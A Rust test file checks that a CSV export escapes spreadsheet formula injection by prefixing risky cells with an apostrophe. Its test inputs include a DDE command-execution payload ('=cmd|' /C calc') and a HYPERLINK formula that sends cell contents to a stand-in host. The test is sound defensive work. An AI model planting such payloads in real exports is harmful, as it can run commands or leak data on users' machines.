//! Texts that a spreadsheet would run are texts in a list.

use std::sync::Arc;

use arrow::array::{ArrayRef, Int64Array, StringArray};

use super::{places, printed, records, run_on_x, write};

/// With what stands in the list for each.
const TEXTS: [(&str, &str); 22] = [
    ("=1+1", "'=1+1"),
    ("=HYPERLINK(\"http://example.org/?\"&A1,\"click\")", "'=HYPERLINK(\"http://example.org/?\"&A1,\"click\")"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t'=1"),
    ("\r=1", "'\r'=1"),
    ("\n=1", "'\n'=1"),
    ("   =1", "'   =1"),
    ("\u{a0}\u{feff}=1", "'\u{a0}\u{feff}=1"),
    ("\u{7}=1", "'\u{7}=1"),
    ("＝1", "'＝1"),
    ("a;=1", "a;'=1"),
    ("a\",=1", "a\",=1"),
    ("a\r\n=1", "a\r\n'=1"),
    ("say \"hi\", then, go", "say \"hi\", then, go"),
    ("'=1", "'=1"),
    ("-5", "-5"),
    ("+49301234567", "+49301234567"),
    ("", ""),
    ("Zoë 漢字 🙂", "Zoë 漢字 🙂"),
];

#[test]
fn no_text_of_the_input_is_a_formula_in_the_list() {
    let place = tempfile::tempdir().unwrap();
    let n_rows = 210;
    let id: StringArray = (0..n_rows).map(|row| Some(format!("{}#{row}", TEXTS[row % 22].0))).collect();
    let note: StringArray = (0..n_rows).map(|row| Some(TEXTS[row % 22].0)).collect();
    let number: Int64Array = (0..n_rows as i64).map(|row| Some(-row)).collect();
    let columns: Vec<(&str, ArrayRef)> = vec![
        ("=id()", Arc::new(id)),
        ("x", places(n_rows)),
        ("@note, \"quoted\"", Arc::new(note)),
        ("number", Arc::new(number)),
    ];
    write(&place.path().join("data.parquet"), columns, 64);
    run_on_x(place.path(), "=id()");
    // A column whose name holds a comma is not to be had by a list of names.
    let export = segmint::export::Export::prepare(
        &place.path().join("run"),
        Some(&place.path().join("data.parquet").display().to_string()),
        &segmint::export::Wanted {
            clusters: vec![0, 1],
            columns: vec!["@note, \"quoted\"".into(), "number".into()],
            ..Default::default()
        },
        &segmint::observe::Observe::default(),
    );
    let mut bytes = Vec::new();
    export.unwrap().write(segmint::export::Format::Csv, &mut bytes, &segmint::observe::Observe::default()).unwrap();
    let found = records(&String::from_utf8(bytes).unwrap());
    assert_eq!(found[0], ["'=id()", "persona", "second_persona", "distance", "margin", "'@note, \"quoted\"", "number"]);
    assert_eq!(found.len(), 1 + n_rows - n_rows / 7);
    for record in &found[1..] {
        let row: usize = record[0].rsplit('#').next().unwrap().parse().unwrap();
        assert_eq!(record[5], TEXTS[row % 22].1, "row {row}");
        assert_eq!(record[6], (-(row as i64)).to_string(), "a number stays one");
        let dangerous =
            |cell: &str| cell.split([';', '\t', '\r', '\n']).any(|piece| piece.trim_start().starts_with(['=', '@']));
        assert!(!record.iter().any(|cell| dangerous(cell)), "{record:?}");
    }
    let shown = printed(place.path(), &["export", "run", "--cluster", "0", "--top", "1"]);
    assert!(shown.starts_with("'=id(),persona,"), "{shown}");
}
